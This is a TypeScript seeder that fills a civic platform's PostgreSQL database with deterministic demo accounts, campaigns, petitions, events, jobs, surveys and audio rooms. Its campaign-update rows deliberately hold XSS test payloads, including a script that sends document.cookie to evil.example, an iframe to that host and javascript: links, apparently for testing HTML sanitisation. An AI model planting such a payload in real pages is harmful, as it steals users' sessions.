import { DataSource } from 'typeorm';
import type { Seeder } from '../seed/seeder';
import { COUNTRY_NAMES } from './common/countries';
import { EVENT_TYPES } from './events/dto/events.query';

/**
 * Deterministic demo data of the public content API, public and private side, generated in PostgreSQL with
 * bulk `INSERT … SELECT generate_series` (so `--scale 2000` — 100,000 campaigns, 1,000,000 signatures — takes
 * seconds, not hours). Every value derives from the row number through md5/hashtext, so a scale always yields
 * the same rows; ids are stable, so seeding again adds only what a larger scale adds.
 *
 * Per scale unit: 100 accounts (30 % with a public profile), 50 campaigns in every state with 2 updates of
 * hostile HTML each and 4 donations, 20 petitions in every state, 500 signatures.
 * Per unit also 30 events (published, draft, cancelled; paid with tiers, one sold out; agenda, speakers, sponsors,
 * gallery; private promo codes, RSVPs and joining links), 10 employers and 30 jobs (open, closed, draft; hidden
 * salaries; private applications with screening answers, interviews, offers and fees).
 * Surveys: 24 per unit over every result-visibility mode and state, some unlisted or attached to an event, job
 * or community, with choice, matrix and text questions and private responses. Durbars: 20 per unit in every
 * status and visibility, with speakers, replays (uploaded or still uploading), transcripts (completed or
 * processing) whose segments include moderated ones, and private listeners, raised hands and playlists.
 * Marketplace: 12 categories, 40 listings per unit (active, draft, suspended; services and goods) with packages
 * and private provider contacts. Blog: 5 categories, 15 posts per unit (published, draft, archived) with hostile HTML.
 * Community: 30 actors (some not public), 8 groups (public, private, secret) with members, 60 posts (published,
 * hidden, in private groups) with attachments of every type, 20 reviewed entities with private reviews and owner
 * contacts, 20 safety hazards (every status) with private reporters.
 * Private values follow recognisable patterns (`@private.example`, "Private … comment") for privacy tests.
 */
export const CONTENT_SEED = {
  accounts: 100,
  campaigns: 50,
  petitions: 20,
  donations: 200,
  signatures: 500,
  events: 30,
  employers: 10,
  jobs: 30,
  surveys: 24,
  durbars: 20,
  listings: 40,
  posts: 15,
  actors: 30,
  groups: 8,
  feed: 60,
  entities: 20,
  hazards: 20,
};

const CODES = Object.keys(COUNTRY_NAMES);
const CURRENCY: Record<string, string> = { GH: 'GHS', NG: 'NGN', KE: 'KES', ZA: 'ZAR', GB: 'GBP', US: 'USD' };
const CATEGORIES = ['education', 'health', 'water', 'environment', 'emergency', 'community', 'arts'];
const FIRST = [
  'Ama',
  'Kofi',
  'Efua',
  'Kwame',
  'Abena',
  'Yaw',
  'Chidi',
  'Ngozi',
  'Wanjiru',
  'Thabo',
  'Amara',
  'Tunde',
];
const LAST = [
  'Mensah',
  'Boateng',
  'Owusu',
  'Okafor',
  'Adeyemi',
  'Kamau',
  'Nkosi',
  'Asante',
  'Diallo',
  'Osei',
];

/** A SQL expression picking from `list` by a hash of `seed || i` (deterministic). */
const pick = (list: string[], seed: string, i = 'i') =>
  `(ARRAY[${list.map((v) => `'${v.replace(/'/g, "''")}'`).join(',')}])[1 + abs(hashtext('${seed}' || ${i})) % ${list.length}]`;
/** A deterministic integer in [0, n). */
const num = (seed: string, n: number, i = 'i') => `(abs(hashtext('${seed}' || ${i})) % ${n})`;
const id = (prefix: string, kind: string, i = 'i') => `'${prefix}_' || substr(md5('${kind}' || ${i}), 1, 22)`;

export const contentSeeder: Seeder = {
  name: 'content',
  order: 20,
  async run(app, opts) {
    const ds = app.get(DataSource);
    const s = Math.max(1, Math.floor(opts.scale));
    const n = Object.fromEntries(
      Object.entries(CONTENT_SEED).map(([k, v]) => [k, v * s]),
    ) as typeof CONTENT_SEED;
    const currency = `COALESCE((ARRAY[${Object.entries(CURRENCY)
      .map(([c, cur]) => `'${c}:${cur}'`)
      .join(',')}]::text[])[array_position(ARRAY[${Object.keys(CURRENCY)
      .map((c) => `'${c}'`)
      .join(',')}]::text[], cc)], ':USD')`;
    const countryName = `(ARRAY[${CODES.map((c) => `'${COUNTRY_NAMES[c].replace(/'/g, "''")}'`).join(',')}])[array_position(ARRAY[${CODES.map((c) => `'${c}'`).join(',')}], cc)]`;
    const t0 = Date.now();
    // Progress by phase: the tables below, then events and jobs, surveys and durbars, marketplace and blog,
    // community, and the closing VACUUM (ANALYZE).
    const progress = opts.progress?.('content tables', 11);

    await ds.query(
      `INSERT INTO content.account (id, username, full_name, email, phone, bio, avatar_url, country, account_type, public_profile, created_at)
       SELECT ${id('usr', 'account')}, lower(${pick(FIRST, 'af')}) || '_' || i,
              ${pick(FIRST, 'af')} || ' ' || ${pick(LAST, 'al')},
              'person' || i || '@private.example', '+23320' || lpad(i::text, 7, '0'),
              CASE WHEN i % 4 = 0 THEN NULL ELSE 'I care about ' || ${pick(CATEGORIES, 'ab')} || '.' END,
              CASE WHEN i % 3 = 0 THEN NULL ELSE 'https://cdn.example/avatars/' || i || '.jpg' END,
              ${pick(CODES, 'ac')}, (ARRAY['individual','organization','individual'])[1 + i % 3],
              i % 10 < 3, now() - (${num('at', 1000)} || ' days')::interval
         FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
      [n.accounts],
    );
    progress?.tick();

    await ds.query(
      `INSERT INTO content.campaign (id, slug, title, description, category, status, goal_amount, raised_amount, currency, image_url,
                                     country, target_country, organizer_id, internal_notes, goal_reached_at, deadline, created_at)
       SELECT ${id('cmp', 'campaign')}, 'campaign-' || i || '-' || lower(cat), title, 'Help us with ' || lower(title) || '. Every gift counts.',
              cat, st, goal, CASE WHEN st = 'won' THEN goal + ${num('rx', 500)} ELSE least(goal - 1, ${num('rr', 100000)}) END,
              split_part(${currency}, ':', 2),
              CASE WHEN i % 5 = 0 THEN NULL ELSE 'https://cdn.example/campaigns/' || i || '.jpg' END,
              CASE WHEN i % 9 = 0 THEN NULL ELSE ${countryName} END, CASE WHEN i % 9 = 0 THEN NULL ELSE cc END,
              ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, 'Internal note ' || i || ': organizer verified by phone',
              CASE WHEN st = 'won' THEN created + interval '20 days' END,
              CASE WHEN i % 4 = 0 THEN NULL ELSE created + interval '90 days' END, created
         FROM (SELECT i, ${pick(CATEGORIES, 'cc')} AS cat, ${pick(CODES, 'cn')} AS cc,
                      (ARRAY['active','active','active','won','draft','pending_review','paused','closed','rejected'])[1 + i % 9] AS st,
                      (1000 + ${num('cg', 100)} * 500)::numeric AS goal,
                      initcap(${pick(['clean water for', 'school books for', 'a clinic in', 'solar lamps for', 'flood relief in', 'a library in'], 'ct')}) || ' ' || ${pick(['Tamale', 'Kumasi', 'Lagos', 'Nairobi', 'Durban', 'Kisumu', 'Ho', 'Accra'], 'cp')} AS title,
                      now() - ((i % 700) || ' days')::interval - (i || ' seconds')::interval AS created
                 FROM generate_series(1, $1) i) c
       ON CONFLICT (id) DO NOTHING`,
      [n.campaigns],
    );
    progress?.tick();

    await ds.query(
      `INSERT INTO content.campaign_update (id, campaign_id, author_id, title, content_html, media_urls, created_at)
       SELECT ${id('cupd', 'update')}, ${id('cmp', 'campaign', `(1 + (i - 1) / 2)`)}, ${id('usr', 'account', `(1 + ((i - 1) / 2) % ${n.accounts})`)},
              CASE WHEN i % 3 = 0 THEN NULL ELSE 'Update ' || i END,
              '<p>Thank you! We reached <strong>' || (i % 100) || '%</strong> of our goal.</p>'
                || '<script>document.location="https://evil.example/?c="+document.cookie</script>'
                || '<img src="x" onerror="alert(' || i || ')"><a href="javascript:alert(1)">click me</a>'
                || '<iframe src="https://evil.example/frame"></iframe><p style="color:red" onclick="steal()">More soon.</p>'
                || '<a href="https://example.org/report/' || i || '">Read the report</a>',
              CASE WHEN i % 2 = 0 THEN ARRAY['https://cdn.example/updates/' || i || '.jpg'] ELSE '{}'::text[] END,
              now() - ((i % 300) || ' days')::interval
         FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
      [n.campaigns * 2],
    );
    progress?.tick();

    await ds.query(
      `INSERT INTO content.donation (id, campaign_id, donor_id, donor_name, donor_email, amount, message, anonymous, created_at)
       SELECT ${id('don', 'donation')}, ${id('cmp', 'campaign', `(1 + i % ${n.campaigns})`)},
              CASE WHEN i % 2 = 0 THEN ${id('usr', 'account', `(1 + i % ${n.accounts})`)} END,
              'Donor ' || ${pick(FIRST, 'df')} || ' ' || ${pick(LAST, 'dl')} || ' ' || i, 'donor' || i || '@private.example',
              (5 + ${num('da', 500)})::numeric, 'Private donor message ' || i, i % 5 = 0,
              now() - ((i % 365) || ' days')::interval
         FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
      [n.donations],
    );
    progress?.tick();

    await ds.query(
      `INSERT INTO content.petition (id, slug, title, description, category, status, petition_target, image_url, country, target_country,
                                     creator_id, created_at)
       SELECT ${id('pet', 'petition')}, 'petition-' || i || '-' || lower(cat), title, 'We ask the authorities: ' || lower(title) || '.',
              cat, (ARRAY['active','active','active','draft','closed','victory','removed'])[1 + i % 7],
              CASE WHEN i % 6 = 0 THEN NULL ELSE 1000 * (1 + ${num('pt', 50)}) END,
              CASE WHEN i % 4 = 0 THEN NULL ELSE 'https://cdn.example/petitions/' || i || '.jpg' END,
              CASE WHEN i % 8 = 0 THEN NULL ELSE ${countryName} END, CASE WHEN i % 8 = 0 THEN NULL ELSE cc END,
              ${id('usr', 'account', `(1 + (i * 7) % ${n.accounts})`)}, now() - ((i % 500) || ' days')::interval - (i || ' seconds')::interval
         FROM (SELECT i, ${pick(CATEGORIES, 'pc')} AS cat, ${pick(CODES, 'pn')} AS cc,
                      initcap(${pick(['fix the road to', 'protect the forest of', 'fund nurses in', 'stop dumping in', 'light the streets of'], 'px')}) || ' ' || ${pick(['Tamale', 'Kumasi', 'Lagos', 'Nairobi', 'Durban', 'Ho', 'Accra'], 'pp')} AS title
                 FROM generate_series(1, $1) i) p
       ON CONFLICT (id) DO NOTHING`,
      [n.petitions],
    );
    progress?.tick();

    // Signatures: the big table. Only rows beyond what an earlier (smaller) seed wrote are added.
    const [{ have }] = (await ds.query(`SELECT count(*)::int AS have FROM content.signature`)) as {
      have: number;
    }[];
    if (have < n.signatures) {
      await ds.query(
        `INSERT INTO content.signature (petition_id, signer_id, signer_name, signer_email, comment, created_at)
         SELECT ${id('pet', 'petition', `(1 + ${num('sp', n.petitions)})`)},
                CASE WHEN i % 2 = 0 THEN ${id('usr', 'account', `(1 + i % ${n.accounts})`)} END,
                'Signer ' || ${pick(FIRST, 'sf')} || ' ' || ${pick(LAST, 'sl')} || ' ' || i, 'signer' || i || '@private.example',
                CASE WHEN i % 3 = 0 THEN 'Private signer comment ' || i END, now() - ((i % 40) || ' days')::interval
           FROM generate_series($1::int + 1, $2::int) i`,
        [have, n.signatures],
      );
      await ds.query(
        `UPDATE content.petition p SET signatures_count = s.n
           FROM (SELECT petition_id, count(*)::int AS n FROM content.signature GROUP BY petition_id) s
          WHERE s.petition_id = p.id AND p.signatures_count <> s.n`,
      );
    }
    progress?.tick();
    await seedEventsAndJobs(ds, n);
    progress?.tick();
    await seedSurveysAndDurbars(ds, n);
    progress?.tick();
    await seedMarketplaceAndBlog(ds, n);
    progress?.tick();
    await seedCommunity(ds, n);
    progress?.tick();
    // Fresh statistics for every table the seed filled, so plans use the indexes from the first request, and
    // a vacuum, so the first reads need not set hint bits on (and write back) every freshly inserted page and
    // index-only scans can skip the heap.
    const tables = (await ds.query(`SELECT tablename FROM pg_tables WHERE schemaname = 'content'`)) as {
      tablename: string;
    }[];
    for (const { tablename } of tables) await ds.query(`VACUUM (ANALYZE) content.${tablename}`);
    progress?.done();
    opts.log(`content seeded in ${((Date.now() - t0) / 1000).toFixed(1)} s`);
    return { ...n };
  },
};

const CITIES = [
  'Accra',
  'Kumasi',
  'Tamale',
  'Lagos',
  'Abuja',
  'Nairobi',
  'Mombasa',
  'Cape Town',
  'Kigali',
  'Dakar',
];

async function seedEventsAndJobs(ds: DataSource, n: typeof CONTENT_SEED): Promise<void> {
  await ds.query(
    `INSERT INTO content.event (id, slug, title, description, event_type, category, start_date, end_date, timezone, location, is_online,
                                online_join_url, image_url, is_paid, currency, tags, is_featured, status, organizer_id, created_at)
     SELECT ${id('evt', 'event')}, 'event-' || i || '-' || lower(replace(city, ' ', '-')), title,
            CASE WHEN i % 5 = 0 THEN NULL ELSE 'Join us for ' || lower(title) || ' with talks, music and food.' END,
            et, CASE WHEN i % 4 = 0 THEN NULL ELSE ${pick(CATEGORIES, 'ec')} END,
            start_at, CASE WHEN i % 3 = 0 THEN NULL ELSE start_at + interval '3 hours' END, 'Africa/Accra',
            CASE WHEN i % 6 = 0 THEN NULL ELSE city || ' Conference Centre' END, i % 6 = 0,
            CASE WHEN i % 6 = 0 THEN 'https://meet.private.example/join/' || i END,
            CASE WHEN i % 5 = 1 THEN NULL ELSE 'https://cdn.example/events/' || i || '.jpg' END,
            i % 2 = 0, (ARRAY['GHS','NGN','KES','USD'])[1 + i % 4], ARRAY[lower(et), lower(city)], i % 10 = 0,
            (ARRAY['published','published','published','published','published','published','published','draft','cancelled','published'])[1 + i % 10],
            ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, now() - ((i % 200) || ' days')::interval
       FROM (SELECT i, ${pick(EVENT_TYPES, 'et')} AS et, ${pick(CITIES, 'ey')} AS city,
                    initcap(${pick(['tech summit', 'book fair', 'health walk', 'jazz night', 'startup pitch', 'coding bootcamp', 'food festival'], 'en')}) || ' ' || ${pick(CITIES, 'ey')} AS title,
                    date_trunc('hour', now()) + ((((i * 7) % 120) - 40) || ' days')::interval AS start_at
               FROM generate_series(1, $1) i) e
     ON CONFLICT (id) DO NOTHING`,
    [n.events],
  );
  // Tiers for paid events (even i): 1 to 3 each; the first tier of every 4th paid event is sold out.
  await ds.query(
    `INSERT INTO content.event_ticket_tier (id, event_id, name, description, price_minor, currency, inventory, sold, sales_end, position)
     SELECT ${id('tier', 'tier', `(e * 10 + t)`)}, ${id('evt', 'event', 'e')}, (ARRAY['Regular','VIP','Student'])[t],
            CASE WHEN t = 2 THEN 'Front rows and a signed programme' END, 2000 * t + (e % 7) * 100,
            (ARRAY['GHS','NGN','KES','USD'])[1 + e % 4], 100 * t, CASE WHEN t = 1 AND e % 8 = 0 THEN 100 ELSE 10 * t END, NULL, t
       FROM generate_series(2, $1, 2) e, generate_series(1, 1 + (e / 2) % 3) t
     ON CONFLICT (id) DO NOTHING`,
    [n.events],
  );
  await ds.query(
    `INSERT INTO content.event_block (id, event_id, kind, position, data)
     SELECT ${id('blk', 'block', `(e * 10 + b)`)}, ${id('evt', 'event', 'e')}, kind, b,
            CASE kind
              WHEN 'agenda' THEN jsonb_build_object('starts_at', to_char(now() + (b || ' hours')::interval, 'YYYY-MM-DD"T"HH24:00:00"Z"'), 'title', 'Session ' || b, 'description', 'Talk and questions', 'internal_note', 'Speaker fee agreed privately ' || e)
              WHEN 'speaker' THEN jsonb_build_object('name', ${pick(FIRST, 'bf', 'e + b')} || ' ' || ${pick(LAST, 'bl', 'e + b')}, 'title', 'Founder', 'photo_url', 'https://cdn.example/speakers/' || e || '-' || b || '.jpg', 'email', 'speaker' || e || '-' || b || '@private.example', 'phone', '+23321' || lpad((e * 10 + b)::text, 7, '0'))
              WHEN 'sponsor' THEN jsonb_build_object('name', 'Sponsor ' || e, 'logo_url', 'https://cdn.example/sponsors/' || e || '.png', 'url', 'https://sponsor' || e || '.example', 'contract_value', 5000)
              ELSE jsonb_build_object('image_url', 'https://cdn.example/gallery/' || e || '-' || b || '.jpg', 'caption', CASE WHEN b % 2 = 0 THEN 'Last year' END)
            END
       FROM generate_series(1, $1) e,
            (VALUES (1, 'agenda'), (2, 'agenda'), (3, 'speaker'), (4, 'speaker'), (5, 'sponsor'), (6, 'gallery'), (7, 'gallery')) AS k(b, kind)
     ON CONFLICT (id) DO NOTHING`,
    [n.events],
  );
  await ds.query(
    `INSERT INTO content.event_promo_code (event_id, code, percent)
     SELECT ${id('evt', 'event', 'e')}, 'SECRET-PROMO-' || e, 20 FROM generate_series(2, $1, 2) e ON CONFLICT DO NOTHING`,
    [n.events],
  );
  const [{ rsvps }] = (await ds.query(`SELECT count(*)::int AS rsvps FROM content.event_rsvp`)) as {
    rsvps: number;
  }[];
  await ds.query(
    `INSERT INTO content.event_rsvp (event_id, name, email, created_at)
     SELECT ${id('evt', 'event', `(1 + i % ${n.events})`)}, 'Guest ' || ${pick(FIRST, 'rf')} || ' ' || i, 'rsvp' || i || '@private.example', now()
       FROM generate_series($1::int + 1, $2::int) i`,
    [rsvps, n.events * 5],
  );

  await ds.query(
    `INSERT INTO content.employer (id, slug, name, logo_url, industry, location, is_verified, contact_email, billing_notes)
     SELECT ${id('emp', 'employer')}, 'employer-' || i, ${pick(['Asante', 'Volta', 'Savanna', 'Coastal', 'Harmattan', 'Baobab'], 'mn')} || ' ' || ${pick(['Labs', 'Health', 'Foods', 'Energy', 'Logistics', 'Bank'], 'mk')},
            CASE WHEN i % 3 = 0 THEN NULL ELSE 'https://cdn.example/employers/' || i || '.png' END,
            ${pick(['technology', 'healthcare', 'agriculture', 'energy', 'finance'], 'mi')}, ${pick(CITIES, 'ml')}, i % 2 = 0,
            'hr' || i || '@private.example', 'Private billing note ' || i
       FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
    [n.employers],
  );
  await ds.query(
    `INSERT INTO content.job (id, slug, title, description, employment_type, workplace_type, seniority, location, category,
                              salary_min_minor, salary_max_minor, salary_currency, salary_period, salary_hidden, skills,
                              responsibilities, requirements, benefits, application_deadline, is_featured, status, employer_id,
                              published_at, created_at)
     SELECT ${id('job', 'job')}, 'job-' || i || '-' || lower(replace(role, ' ', '-')), role,
            'We are hiring a ' || lower(role) || ' to join our team in ' || city || '.',
            ${pick(['full_time', 'full_time', 'part_time', 'contract', 'internship'], 'jt')}, (ARRAY['onsite','hybrid','remote'])[1 + i % 3],
            ${pick(['entry', 'junior', 'mid', 'senior', 'lead'], 'js')}, city, ${pick(['engineering', 'health', 'finance', 'operations', 'design'], 'jc')},
            300000 + ${num('jm', 20)} * 50000, 600000 + ${num('jm', 20)} * 80000, (ARRAY['GHS','NGN','KES','USD'])[1 + i % 4], 'month', i % 10 < 3,
            ARRAY[${pick(['typescript', 'sql', 'excel', 'nursing', 'accounting', 'figma'], 'k1')}, ${pick(['postgresql', 'communication', 'leadership', 'python'], 'k2')}],
            ARRAY['Own the ' || lower(role) || ' work', 'Work with the team'], ARRAY['Two years of experience'], ARRAY['Health insurance', 'Training budget'],
            CASE WHEN i % 4 = 0 THEN NULL ELSE now() + ((i % 60) || ' days')::interval END, i % 5 = 0,
            (ARRAY['open','open','open','open','open','open','open','closed','draft','open'])[1 + i % 10],
            ${id('emp', 'employer', `(1 + i % ${n.employers})`)}, now() - ((i % 90) || ' days')::interval - (i || ' seconds')::interval,
            now() - ((i % 90) || ' days')::interval - (i || ' seconds')::interval
       FROM (SELECT i, ${pick(['Backend Engineer', 'Nurse', 'Accountant', 'Product Designer', 'Data Analyst', 'Operations Lead'], 'jr')} AS role,
                    ${pick(CITIES, 'jl')} AS city
               FROM generate_series(1, $1) i) j
     ON CONFLICT (id) DO NOTHING`,
    [n.jobs],
  );
  await ds.query(
    `INSERT INTO content.job_application (id, job_id, applicant_name, applicant_email, applicant_phone, cover_letter, screening_answers,
                                          status, interview_at, offer_amount, placement_fee, created_at)
     SELECT ${id('app', 'application')}, ${id('job', 'job', `(1 + i % ${n.jobs})`)}, 'Applicant ' || ${pick(FIRST, 'pf')} || ' ' || i,
            'applicant' || i || '@private.example', '+23322' || lpad(i::text, 7, '0'), 'Private cover letter ' || i,
            jsonb_build_object('expected_salary', 'Private answer ' || i), (ARRAY['received','interview','offer','rejected'])[1 + i % 4],
            CASE WHEN i % 4 = 1 THEN now() + interval '3 days' END, CASE WHEN i % 4 = 2 THEN 900000 + i END,
            CASE WHEN i % 4 = 2 THEN 77700 + i END, now()
       FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
    [n.jobs * 3],
  );
}

async function seedSurveysAndDurbars(ds: DataSource, n: typeof CONTENT_SEED): Promise<void> {
  await ds.query(
    `INSERT INTO content.survey (id, slug, title, description, purpose, is_anonymous, guests_allowed, result_visibility, status, visibility,
                                 attached_to_type, attached_to_id, opens_at, closes_at, category_slug, creator_id, published_at, created_at)
     SELECT ${id('srv', 'survey')}, 'survey-' || i, 'How should ' || ${pick(CITIES, 'sc')} || ' spend its ' || ${pick(['budget', 'parks', 'roads', 'schools'], 'sb')} || '?',
            'Tell us what matters to you.', ${pick(['poll', 'feedback', 'research'], 'su')}, i % 2 = 0, i % 3 <> 0,
            (ARRAY['public_live','after_close','after_respond'])[1 + i % 3], (ARRAY['open','closed','draft'])[1 + (i / 3) % 3],
            CASE WHEN i % 8 = 5 THEN 'unlisted' ELSE 'public' END,
            CASE WHEN i % 8 = 6 THEN (ARRAY['event','job','community'])[1 + (i / 8) % 3] END,
            CASE WHEN i % 8 = 6 THEN 'attached_' || i END,
            now() - interval '30 days', CASE WHEN (i / 3) % 3 = 1 THEN now() - interval '1 day' ELSE now() + interval '30 days' END,
            ${pick(CATEGORIES, 'sg')}, ${id('usr', 'account', `(1 + i % ${n.accounts})`)},
            now() - ((i % 60) || ' days')::interval - (i || ' seconds')::interval, now() - ((i % 60) || ' days')::interval - (i || ' seconds')::interval
       FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
    [n.surveys],
  );
  // Per survey: q1 single choice (3 options), q2 multiple choice (4), q3 matrix (2 rows, 3 columns), q4 text.
  await ds.query(
    `INSERT INTO content.survey_question (id, survey_id, question_key, input_kind, label, help_text, required, position)
     SELECT ${id('sq', 'question', `(s * 10 + k)`)}, ${id('srv', 'survey', 's')}, 'q' || k,
            (ARRAY['single_choice','multiple_choice','matrix','text'])[k], (ARRAY['Pick one','Pick any','Rate each','Anything else?'])[k],
            CASE WHEN k = 2 THEN 'Choose as many as apply' END, k = 1, k
       FROM generate_series(1, $1) s, generate_series(1, 4) k ON CONFLICT (id) DO NOTHING`,
    [n.surveys],
  );
  await ds.query(
    `INSERT INTO content.survey_option (id, question_id, option_key, label, kind, position)
     SELECT ${id('so', 'option', `(s * 100 + k * 10 + o)`)}, ${id('sq', 'question', `(s * 10 + k)`)},
            CASE WHEN k = 3 AND o <= 2 THEN 'row' || o WHEN k = 3 THEN 'col' || (o - 2) ELSE 'o' || o END,
            CASE WHEN k = 3 AND o <= 2 THEN 'Matrix row ' || o WHEN k = 3 THEN 'Matrix column ' || (o - 2) ELSE 'Option ' || o END,
            CASE WHEN k = 3 AND o <= 2 THEN 'matrix_row' WHEN k = 3 THEN 'matrix_column' ELSE 'option' END, o
       FROM generate_series(1, $1) s, (VALUES (1, 3), (2, 4), (3, 5)) AS q(k, n), generate_series(1, q.n) o
     ON CONFLICT (id) DO NOTHING`,
    [n.surveys],
  );
  // 10 responses per survey (none for every 4th, so a revealed count can be a true 0).
  await ds.query(
    `INSERT INTO content.survey_response (id, survey_id, respondent_id, respondent_email, free_text, submitted_at)
     SELECT ${id('sr', 'response', `(s * 100 + r)`)}, ${id('srv', 'survey', 's')},
            CASE WHEN r % 2 = 0 THEN ${id('usr', 'account', `(1 + (s * 10 + r) % ${n.accounts})`)} END,
            'respondent' || s || '-' || r || '@private.example', 'Private survey answer ' || s || '-' || r, now()
       FROM generate_series(1, $1) s, generate_series(1, 10) r WHERE s % 4 <> 0
     ON CONFLICT (id) DO NOTHING`,
    [n.surveys],
  );
  await ds.query(
    `INSERT INTO content.survey_response_choice (response_id, option_id)
     SELECT ${id('sr', 'response', `(s * 100 + r)`)}, ${id('so', 'option', `(s * 100 + 10 + 1 + (r % 3))`)}
       FROM generate_series(1, $1) s, generate_series(1, 10) r WHERE s % 4 <> 0
     UNION ALL
     SELECT ${id('sr', 'response', `(s * 100 + r)`)}, ${id('so', 'option', `(s * 100 + 20 + o)`)}
       FROM generate_series(1, $1) s, generate_series(1, 10) r, generate_series(1, 4) o WHERE s % 4 <> 0 AND (r + o) % 3 = 0
     ON CONFLICT DO NOTHING`,
    [n.surveys],
  );

  await ds.query(
    `INSERT INTO content.durbar (id, slug, title, description, status, visibility, scheduled_for, started_at, ended_at, is_recorded, language,
                                 peak_listener_count, total_listeners, host_handle, host_name, host_avatar_url, host_kind, host_verified,
                                 stream_playlist_url, created_at)
     SELECT ${id('dbr', 'durbar')}, 'durbar-' || i, ${pick(['Town hall on', 'Ask me anything about', 'Live debate:', 'Weekly chat on'], 'dt')} || ' ' || ${pick(['water', 'jobs', 'health', 'elections', 'farming'], 'dx')},
            'A live audio conversation.', st, CASE WHEN i % 7 = 3 THEN 'unlisted' ELSE 'public' END,
            now() + ((i % 10) - 3 || ' days')::interval,
            CASE WHEN st IN ('live','ended') THEN now() - ((i % 10) || ' days')::interval - interval '1 hour' END,
            CASE WHEN st = 'ended' THEN now() - ((i % 10) || ' days')::interval END,
            i % 2 = 0, (ARRAY['en','en','fr','tw'])[1 + i % 4], 50 + i, 200 + i * 3,
            'host_' || i, ${pick(['Civic Voices', 'Ama Mensah', 'Youth Forum', 'Kofi Boateng'], 'dh')},
            CASE WHEN i % 3 = 0 THEN NULL ELSE 'https://cdn.example/hosts/' || i || '.jpg' END,
            (ARRAY['organization','person'])[1 + i % 2], i % 2 = 1, 'https://stream.private.example/live/' || i || '.m3u8',
            now() - ((i % 30) || ' days')::interval
       FROM (SELECT i, (ARRAY['scheduled','live','ended','ended','cancelled'])[1 + i % 5] AS st FROM generate_series(1, $1) i) d
     ON CONFLICT (id) DO NOTHING`,
    [n.durbars],
  );
  await ds.query(
    `INSERT INTO content.durbar_speaker (durbar_id, handle, name, avatar_url, kind, verified, role, speaking_minutes, position)
     SELECT ${id('dbr', 'durbar', 'i')}, CASE WHEN k = 1 THEN 'host_' || i ELSE 'guest_' || i END,
            CASE WHEN k = 1 THEN 'Host ' || i ELSE ${pick(FIRST, 'dg')} || ' ' || ${pick(LAST, 'dl')} END, NULL,
            CASE WHEN k = 1 THEN 'organization' ELSE 'person' END, k = 1, CASE WHEN k = 1 THEN 'host' ELSE 'speaker' END, 10 * k, k
       FROM generate_series(1, $1) i, generate_series(1, 2) k ON CONFLICT DO NOTHING`,
    [n.durbars],
  );
  // Recorded ended rooms: replays (ready for i % 4 = 2, still uploading otherwise) and transcripts (completed for
  // i % 4 = 2, processing otherwise).
  const recordedEnded = `FROM generate_series(1, $1) i WHERE i % 2 = 0 AND (1 + i % 5) IN (3, 4)`;
  await ds.query(
    `INSERT INTO content.durbar_replay (durbar_id, url, duration_seconds, mime_type, upload_status)
     SELECT ${id('dbr', 'durbar', 'i')}, 'https://cdn.example/replays/' || i || '.mp3', 3600, 'audio/mpeg',
            CASE WHEN i % 4 = 2 THEN 'ready' ELSE 'uploading' END ${recordedEnded} ON CONFLICT DO NOTHING`,
    [n.durbars],
  );
  await ds.query(
    `INSERT INTO content.durbar_transcript (durbar_id, language, duration_seconds, status, completed_at)
     SELECT ${id('dbr', 'durbar', 'i')}, 'en', 3600, CASE WHEN i % 4 = 2 THEN 'completed' ELSE 'processing' END,
            CASE WHEN i % 4 = 2 THEN now() - interval '1 hour' END ${recordedEnded} ON CONFLICT DO NOTHING`,
    [n.durbars],
  );
  // Six segments (the fourth flagged by moderation) for every transcript that has none yet, so a larger seed
  // after a smaller one gives its new transcripts segments too.
  await ds.query(
    `INSERT INTO content.durbar_transcript_segment (durbar_id, start_ms, end_ms, text, lang, confidence, speaker_handle, flagged)
     SELECT t.durbar_id, (k - 1) * 5000, k * 5000 - 1,
            CASE WHEN k = 4 THEN 'Flagged segment private ' || t.durbar_id ELSE 'We discussed point number ' || k || '.' END,
            'en', 0.8 + k * 0.02, 'speaker_private_' || k, k = 4
       FROM content.durbar_transcript t, generate_series(1, 6) k
      WHERE NOT EXISTS (SELECT 1 FROM content.durbar_transcript_segment s WHERE s.durbar_id = t.durbar_id)
      ORDER BY t.durbar_id, k`,
  );
  await ds.query(
    `INSERT INTO content.durbar_listener (durbar_id, handle, joined_at, hand_raised)
     SELECT ${id('dbr', 'durbar', 'i')}, 'listener_private_' || i || '_' || l, now(), l = 1
       FROM generate_series(1, $1) i, generate_series(1, 5) l ON CONFLICT DO NOTHING`,
    [n.durbars],
  );
}

const MARKET_CATEGORIES: [string, string, string][] = [
  ['catering', 'Catering', 'service'],
  ['photography', 'Photography', 'service'],
  ['tailoring', 'Tailoring', 'service'],
  ['web-design', 'Web design', 'service'],
  ['tutoring', 'Tutoring', 'service'],
  ['plumbing', 'Plumbing', 'service'],
  ['crafts', 'Crafts', 'goods'],
  ['fabrics', 'Fabrics', 'goods'],
  ['books', 'Books', 'goods'],
  ['produce', 'Farm produce', 'goods'],
  ['electronics', 'Electronics', 'goods'],
  ['beauty', 'Beauty products', 'goods'],
];

async function seedMarketplaceAndBlog(ds: DataSource, n: typeof CONTENT_SEED): Promise<void> {
  await ds.query(
    `INSERT INTO content.marketplace_category (id, slug, name, kind, position)
     SELECT 'mcat_' || c.slug, c.slug, c.name, c.kind, c.pos
       FROM unnest($1::text[], $2::text[], $3::text[]) WITH ORDINALITY AS c(slug, name, kind, pos)
     ON CONFLICT (id) DO NOTHING`,
    [
      MARKET_CATEGORIES.map((c) => c[0]),
      MARKET_CATEGORIES.map((c) => c[1]),
      MARKET_CATEGORIES.map((c) => c[2]),
    ],
  );
  const slugs = (kind: string) => MARKET_CATEGORIES.filter((c) => c[2] === kind).map((c) => c[0]);
  await ds.query(
    `INSERT INTO content.listing (id, slug, title, description, listing_type, category_slugs, price_min_minor, price_max_minor, currency,
                                  location, rating, review_count, is_verified, is_featured, cover_url, supports_campaign_id,
                                  portfolio_urls, languages, status, provider_id, provider_phone, provider_email, provider_whatsapp, created_at)
     SELECT ${id('lst', 'listing')}, CASE WHEN i % 7 = 0 THEN NULL ELSE 'listing-' || i END,
            initcap(cat) || ' by ' || ${pick(FIRST, 'lf')}, CASE WHEN i % 6 = 0 THEN NULL ELSE 'Quality ' || cat || ' in ' || city || '.' END,
